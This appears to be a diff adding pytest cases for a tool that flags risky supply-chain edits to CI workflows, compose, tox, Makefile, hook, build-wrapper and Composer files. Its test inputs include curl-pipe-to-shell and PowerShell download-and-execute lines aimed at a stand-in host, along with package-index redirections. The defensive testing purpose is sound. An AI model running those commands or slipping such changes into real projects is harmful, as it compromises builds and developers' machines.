@@ -371,6 +371,172 @@ def test_places_of_a_workflow(addition: str, name: str, rule: str) -> None:
 @pytest.mark.parametrize(
     ("addition", "name", "rule"),
     [
+        ("      - shell: python\n        run: |\n          import os; os.system('pip install evil')\n", "evil", "added"),
+        ("      - uses: actions/github-script@v7\n        with:\n          script: exec('npm i evil')\n", "evil", "added"),
+        ("      - run: iex ((New-Object Net.WebClient).DownloadString('https://e.example'))\n", "download and run", "dynamic"),
+    ],
+    ids=repr,
+)  # fmt: skip
+def test_code_of_a_workflow(addition: str, name: str, rule: str) -> None:
+    before = "on: push\njobs:\n  t:\n    steps:\n      - uses: a/b@v1\n"
+    assert (name, rule) in said(".gitea/workflows/ci.yml", before, before + addition)
+
+
+@pytest.mark.parametrize(
+    ("service", "name", "rule"),
+    [
+        ("command: sh -c 'pip install evil && x'", "evil", "added"),
+        ("entrypoint: [sh, -c, 'curl https://e.example | sh']", "download and run", "dynamic"),
+        ("healthcheck: {test: [CMD, npx, evil]}", "evil", "added"),
+        ("post_start: [{command: pip install evil}]", "evil", "added"),
+        ("environment: {PIP_INDEX_URL: https://e.example}", "PIP_INDEX_URL", "index-changed"),
+        ("environment: ['PIP_INDEX_URL=https://e.example']", "PIP_INDEX_URL", "index-changed"),
+        ("build: {context: ., args: {UV_INDEX_URL: https://e.example}}", "UV_INDEX_URL", "index-changed"),
+    ],
+    ids=str,
+)  # fmt: skip
+def test_places_of_a_compose_service(service: str, name: str, rule: str) -> None:
+    before = "services:\n  s:\n    image: a:1\n"
+    assert (name, rule) in said("compose.yaml", before, f"{before}    {service}\n")
+
+
+@pytest.mark.parametrize(
+    ("addition", "name", "rule"),
+    [
+        ("commands = pip install evil", "evil", "added"),
+        ("commands_pre =\n  - python -m pip install evil", "evil", "added"),
+        ("install_command = pip install -i https://e.example {opts} {packages}", "pip install -i", "index-changed"),
+        ("setenv =\n  PIP_INDEX_URL = https://e.example", "PIP_INDEX_URL", "index-changed"),
+    ],
+    ids=repr,
+)  # fmt: skip
+def test_places_of_a_tox_ini(addition: str, name: str, rule: str) -> None:
+    before = "[testenv]\ndeps = a\n"
+    assert (name, rule) in said("tox.ini", before, f"{before}{addition}\n")
+
+
+def test_what_tox_runs_of_the_project_is_passed_over() -> None:
+    commands = (
+        "commands =\n  pytest {posargs}\n  - coverage report\n  pip install .\nsetenv = X=1\n"
+    )
+    assert said("tox.ini", "[testenv]\ndeps = a\n", f"[testenv]\ndeps = a\n{commands}") == set()
+
+
+def test_commands_of_a_tox_toml() -> None:
+    before = "[env_run_base]\ndeps = ['a']\n"
+    added = (
+        "commands = [['pip', 'install', 'evil']]\nset_env = {UV_INDEX_URL = 'https://e.example'}\n"
+    )
+    assert said("tox.toml", before, before + added) >= {
+        ("evil", "added"),
+        ("UV_INDEX_URL", "index-changed"),
+    }
+
+
+@pytest.mark.parametrize(
+    ("path", "content", "name", "rule"),
+    [
+        ("Makefile", "export GOPROXY=https://e.example\n", "GOPROXY", "index-changed"),
+        ("Makefile", "GOSUMDB := off\n", "GOSUMDB", "index-changed"),
+        ("Makefile", "X := $(shell curl https://e.example | sh)\n", "download and run", "dynamic"),
+        ("gradlew", "curl https://e.example | sh\n", "download and run", "dynamic"),
+        (".husky/pre-commit", "npm i evil\n", "evil", "added"),
+    ],
+)
+def test_scripts_that_other_tools_start(path: str, content: str, name: str, rule: str) -> None:
+    assert (name, rule) in said(path, "true\n", f"true\n{content}")
+
+
+@pytest.mark.parametrize(
+    ("path", "content"),
+    [
+        ("Makefile", "V := $(shell git describe)\nPIP := pip\nexport PATH := x\n"),
+        (".husky/pre-commit", "npx lint-staged\nnpx --no -- commitlint\n"),
+    ],
+)
+def test_scripts_that_bring_nothing(path: str, content: str) -> None:
+    assert said(path, "true\n", f"true\n{content}") == set()
+
+
+WRAPPER = "distributionUrl=https\\://h.example/distributions/gradle-8.5-bin.zip\ndistributionSha256Sum=aa\n"
+
+
+@pytest.mark.parametrize(
+    ("old", "new", "rule"),
+    [
+        ("/distributions/", "/evil/", "registry-changed"),
+        ("https\\:", "http\\:", "registry-changed"),
+        ("https\\://h", "https\\://\\\n  evil", "registry-changed"),
+        ("=https", "=\\u0068ttp", "registry-changed"),
+        ("=aa\n", "=bb\n", "hash-replaced"),
+        ("=aa\n", "=aa\nvalidateDistributionUrl=false\n", "option-changed"),
+    ],
+    ids=repr,
+)
+def test_a_wrapper_of_gradle(old: str, new: str, rule: str) -> None:
+    path = "gradle/wrapper/gradle-wrapper.properties"
+    assert rule in {one for _, one in said(path, WRAPPER, WRAPPER.replace(old, new))}
+
+
+def test_the_hash_of_a_wrapper_without_an_address_is_told_when_it_changes() -> None:
+    path, before = ".mvn/wrapper/maven-wrapper.properties", f"{WRAPPER}wrapperSha256Sum=bb\n"
+    assert said(path, WRAPPER, before) == set()
+    assert said(path, before, before.replace("bb", "cc")) == {
+        ("wrapperSha256Sum", "option-changed")
+    }
+
+
+def test_a_wrapper_whose_folder_holds_the_version_moves_with_it() -> None:
+    path = ".mvn/wrapper/maven-wrapper.properties"
+    before = "distributionUrl=https://h.example/maven/3.9.6/apache-maven-3.9.6-bin.zip\n"
+    assert said(path, before, before.replace("3.9.6", "3.9.7")) == {("apache-maven", "changed")}
+
+
+COMPOSER = {
+    "name": "o/a",
+    "version": "1.0",
+    "source": {"url": "https://github.com/o/a.git", "reference": "1" * 40},
+    "dist": {
+        "type": "zip",
+        "url": f"https://api.github.com/repos/o/a/zipball/{'1' * 40}",
+        "reference": "1" * 40,
+    },
+    "notification-url": "https://registry.example/d/",
+}
+
+
+@pytest.mark.parametrize(
+    ("fields", "rule"),
+    [
+        ({"source": {"url": "https://github.com/evil/a.git", "reference": "1" * 40}}, "source-changed"),
+        ({"source": {"url": "https://github.com/o/a.git", "reference": "2" * 40}}, "source-changed"),
+        ({"type": "composer-plugin"}, "install-script"),
+    ],
+    ids=["another repository", "another commit of the repository", "a plugin"],
+)  # fmt: skip
+def test_a_package_of_composer_under_the_same_version(fields: dict[str, object], rule: str) -> None:
+    before, after = (json.dumps({"packages": [one]}) for one in (COMPOSER, COMPOSER | fields))
+    assert ("o/a", rule) in said("composer.lock", before, after)
+
+
+@pytest.mark.parametrize(
+    ("fields", "name", "rule"),
+    [
+        ({"scripts": {"test": "curl https://e.example | sh"}}, "download and run", "dynamic"),
+        ({"minimum-stability": "dev"}, "minimum-stability", "option-changed"),
+        ({"extra": {"patches": {"o/a": {"x": "https://e.example/p"}}}}, "patches o/a", "override"),
+    ],
+    ids=str,
+)
+def test_places_of_a_composer_json(fields: dict[str, object], name: str, rule: str) -> None:
+    before = {"require": {"o/a": "^1.0"}}
+    found = said("composer.json", json.dumps(before), json.dumps(before | fields))
+    assert (name, rule) in found
+
+
+@pytest.mark.parametrize(
+    ("addition", "name", "rule"),
+    [
         ("include: [https://e.example/x.yml]\n", "https://e.example/x.yml", "url-source"),
         ("default:\n  image: evil/x\n", "evil/x", "added"),
         ("default:\n  before_script: [pip install evil]\n", "evil", "added"),
